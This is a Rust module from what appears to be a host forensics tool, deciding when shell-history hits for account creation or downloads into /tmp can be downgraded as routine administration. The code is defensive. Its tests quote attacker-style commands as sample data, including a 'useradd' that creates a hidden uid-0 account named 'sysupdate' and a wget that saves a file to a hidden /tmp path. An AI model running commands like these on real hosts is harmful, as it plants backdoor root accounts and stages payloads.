//! What the rest of a history and the host say about a matched entry. A history entry has no
//! time unless the shell recorded one, so the entry alone cannot tell an intrusion from the
//! administrator's work of two years ago; the host and the entries after it sometimes can:
//!
//! - an account created or added to an admin group (`adduser mchen`, `usermod -aG sudo mchen`)
//!   that exists today as an ordinary account and was not created or changed inside the window
//!   is past administration (low), not a fresh backdoor account;
//! - a file downloaded into /tmp that later entries only read and then delete, never run, and
//!   that is gone, is a vendor script someone looked at (low).
//!
//! Anything else keeps the detector's severity: a uid-0 account, an account born in the
//! window, a download that is run, or one still on disk.

use huoyan_artifacts::history::HistoryEntry;
use huoyan_cmdscan::Hit;
use huoyan_core::Severity;

use crate::Context;

/// Rules whose hits these judgements may settle (the others always keep their severity).
const ACCOUNT_RULES: &[&str] = &["persist.account_create"];
const DOWNLOAD_RULES: &[&str] = &["download.into_writable"];

/// Programs that only look at or remove a file.
const VIEWERS: &[&str] = &[
    "less",
    "more",
    "cat",
    "head",
    "tail",
    "view",
    "vi",
    "vim",
    "nano",
    "file",
    "grep",
    "wc",
    "stat",
    "ls",
    "sha256sum",
    "sha1sum",
    "sha512sum",
    "md5sum",
    "diff",
    "rm",
    "shred",
];

/// Accounts named by an account-creation or group-change command.
fn accounts_named(command: &str) -> Vec<String> {
    let words: Vec<&str> = command.split_whitespace().collect();
    let Some(at) = words.iter().position(|w| {
        matches!(
            w.rsplit('/').next(),
            Some("adduser" | "useradd" | "usermod")
        )
    }) else {
        return Vec::new();
    };
    // Options that take a value.
    const VALUED: &[&str] = &[
        "-G",
        "-g",
        "-u",
        "-s",
        "-d",
        "-c",
        "-e",
        "-f",
        "-k",
        "-K",
        "-p",
        "-R",
        "-P",
        "-Z",
        "--groups",
        "--gid",
        "--uid",
        "--shell",
        "--home",
        "--home-dir",
        "--comment",
        "--gecos",
        "--expiredate",
        "--inactive",
        "--skel",
        "--key",
        "--password",
        "--root",
        "--prefix",
        "--ingroup",
        "--firstuid",
        "--lastuid",
        "--conf",
    ];
    let mut names = Vec::new();
    let mut skip = false;
    for w in &words[at + 1..] {
        if skip {
            skip = false;
            continue;
        }
        if matches!(*w, ";" | "&&" | "||" | "|") {
            break;
        }
        if w.starts_with('-') {
            // `--gid 0`, `-G sudo`, and clusters whose last letter takes a value (`-aG sudo`).
            skip = if w.starts_with("--") {
                VALUED.contains(w)
            } else {
                w.chars()
                    .last()
                    .is_some_and(|c| "GgusdcefkKpRPZ".contains(c))
            };
            continue;
        }
        names.push(w.trim_matches(|c| c == '\'' || c == '"').to_string());
        // `adduser USER GROUP` adds to a group: only the first is the account.
        break;
    }
    names
}

/// The path a download command writes to (`-o P`, `-O P`, `> P`).
fn download_target(command: &str) -> Option<String> {
    let words: Vec<&str> = command.split_whitespace().collect();
    for (i, w) in words.iter().enumerate() {
        let value = match *w {
            "-o" | "-O" | ">" | "--output" | "--output-document" => words.get(i + 1).copied(),
            _ => w
                .strip_prefix("-o")
                .or_else(|| w.strip_prefix("-O"))
                .or_else(|| w.strip_prefix('>'))
                .filter(|v| v.starts_with('/')),
        };
        if let Some(v) = value {
            let v = v.trim_matches(|c| c == '\'' || c == '"');
            if v.starts_with('/') {
                return Some(v.to_string());
            }
        }
    }
    None
}

/// A lower severity for an entry, with the reason, when the host or the later entries show it
/// was routine; `None` keeps the detector's verdict.
pub(crate) fn settle(
    ctx: &Context,
    entries: &[HistoryEntry],
    index: usize,
    hits: &[Hit],
    recent_accounts: &[String],
) -> Option<(Severity, String)> {
    let entry = entries.get(index)?;
    let alerts: Vec<&Hit> = hits.iter().filter(|h| h.severity > Severity::Low).collect();
    if alerts.is_empty() {
        return None;
    }
    if alerts
        .iter()
        .all(|h| ACCOUNT_RULES.contains(&h.rule.as_str()))
    {
        let names = accounts_named(&entry.command);
        if names.is_empty() {
            return None;
        }
        let uid_min = huoyan_artifacts::login_defs::read(&ctx.root).uid_min;
        let settled = names.iter().all(|n| {
            ctx.users()
                .user(n)
                .and_then(|p| p.uid)
                .is_some_and(|uid| uid >= uid_min && uid != 65534)
                && !recent_accounts.contains(n)
        });
        return settled.then(|| {
            (
                Severity::Low,
                format!(
                    "{} exists as an ordinary account, not created or changed inside the window: \
                     past administration",
                    names.join(", ")
                ),
            )
        });
    }
    if alerts
        .iter()
        .all(|h| DOWNLOAD_RULES.contains(&h.rule.as_str()))
    {
        let target = download_target(&entry.command)?;
        if ctx.root.lstat(&target).is_ok() {
            return None; // still there: whatever it is, it is evidence
        }
        let mut removed = false;
        for later in &entries[index + 1..] {
            if !later
                .command
                .split_whitespace()
                .any(|w| w.trim_matches(|c| c == '\'' || c == '"') == target)
            {
                continue;
            }
            let program = later
                .command
                .split_whitespace()
                .find(|w| *w != "sudo" && !w.starts_with('-'))
                .map(|w| w.rsplit('/').next().unwrap_or(w))
                .unwrap_or("");
            if !VIEWERS.contains(&program) {
                return None; // run, made executable, copied elsewhere …
            }
            if matches!(program, "rm" | "shred") {
                removed = true;
                break;
            }
        }
        return removed.then(|| {
            (
                Severity::Low,
                format!("{target} was only read and then deleted by the same user, never run"),
            )
        });
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_targets() {
        assert_eq!(accounts_named("adduser mchen"), vec!["mchen"]);
        assert_eq!(accounts_named("usermod -aG sudo mchen"), vec!["mchen"]);
        assert_eq!(
            accounts_named("sudo useradd -m -s /bin/bash deploy"),
            vec!["deploy"]
        );
        assert_eq!(accounts_named("adduser alice sudo"), vec!["alice"]);
        assert_eq!(
            accounts_named("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate"),
            vec!["sysupdate"]
        );
        assert_eq!(
            download_target("curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/n.sh"),
            Some("/tmp/n.sh".into())
        );
        assert_eq!(
            download_target("wget -q http://x/k -O/tmp/.x"),
            Some("/tmp/.x".into())
        );
    }
}
